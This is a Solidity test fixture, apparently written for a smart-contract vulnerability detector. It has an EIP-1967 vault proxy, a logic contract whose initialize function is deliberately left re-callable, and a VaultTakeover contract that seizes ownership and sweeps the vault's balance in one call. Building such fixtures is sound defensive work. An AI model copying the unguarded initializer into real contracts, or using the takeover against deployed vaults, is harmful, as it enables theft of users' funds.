// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

/// @title VaultProxy: an EIP-1967 proxy (implementation slot) in front of VaultLogic.
/// @notice Written for seqguard's detector tests.
contract VaultProxy {
    bytes32 internal constant IMPLEMENTATION_SLOT =
        0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address implementation, bytes memory init) payable {
        assembly {
            sstore(IMPLEMENTATION_SLOT, implementation)
        }
        if (init.length > 0) {
            (bool ok,) = implementation.delegatecall(init);
            require(ok, "VaultProxy: init failed");
        }
    }

    fallback() external payable {
        assembly {
            let impl := sload(IMPLEMENTATION_SLOT)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), impl, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    receive() external payable {}
}

/// @title VaultLogic: the implementation. Its bug: `initialize` can be called again.
/// The owner lives in OpenZeppelin 5's ERC-7201 Ownable slot.
contract VaultLogic {
    bytes32 internal constant OWNER_SLOT =
        0x9016d09d72d40fdae2fd8ceac6b6234c7706214fd39c1cd1e609a0528c199300;
    bytes32 internal constant IMPLEMENTATION_SLOT =
        0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    event Upgraded(address indexed implementation);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    function owner() public view returns (address o) {
        assembly {
            o := sload(OWNER_SLOT)
        }
    }

    function _setOwner(address o) internal {
        emit OwnershipTransferred(owner(), o);
        assembly {
            sstore(OWNER_SLOT, o)
        }
    }

    modifier onlyOwner() {
        require(msg.sender == owner(), "VaultLogic: not the owner");
        _;
    }

    /// BUG: no "already initialized" check, so anyone can make themselves owner.
    function initialize(address owner_) external {
        _setOwner(owner_);
    }

    function transferOwnership(address newOwner) external onlyOwner {
        _setOwner(newOwner);
    }

    function upgradeTo(address implementation) external onlyOwner {
        assembly {
            sstore(IMPLEMENTATION_SLOT, implementation)
        }
        emit Upgraded(implementation);
    }

    function deposit() external payable {}

    function sweep(address payable to) external onlyOwner {
        to.transfer(address(this).balance);
    }
}

/// @title VaultTakeover: re-initializes the vault to itself and sweeps it, in one call.
contract VaultTakeover {
    function run(VaultLogic vault) external {
        vault.initialize(address(this));
        vault.sweep(payable(msg.sender));
    }
}
